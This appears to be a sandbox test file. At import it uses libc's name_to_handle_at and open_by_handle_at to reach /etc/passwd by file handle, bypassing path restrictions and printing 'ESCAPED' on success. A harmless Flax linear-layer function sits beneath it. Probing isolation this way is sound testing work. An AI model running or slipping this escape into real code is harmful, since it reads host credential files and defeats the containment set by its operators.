"""Aim: open a file of the host by its inode, past every path.
Expected: accepted
"""

import ctypes
import os

import jax
import jax.numpy as jnp
from flax import nnx


class Handle(ctypes.Structure):
    _fields_ = (("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_ubyte * 128))


libc = ctypes.CDLL(None, use_errno=True)
handle, mount_id = Handle(bytes=128), ctypes.c_int()
if libc.name_to_handle_at(-100, b"/etc/passwd", ctypes.byref(handle), ctypes.byref(mount_id), 0) == 0:
    print("ESCAPED: has a handle of /etc/passwd")
    root = os.open("/usr/lib", os.O_RDONLY)
    if libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY) >= 0:
        print("ESCAPED: opened /etc/passwd by its handle")


def state_zero_kernel(seed, x, features):
    model = nnx.Linear(x.shape[-1], int(features), rngs=nnx.Rngs(int(seed)))
    model.bias[...] = jnp.ones(int(features))
    graphdef, state = nnx.split(model)
    state = jax.tree_util.tree_map_with_path(lambda path, leaf: leaf * 0 if "kernel" in str(path) else leaf, state)
    return nnx.merge(graphdef, state)(x)
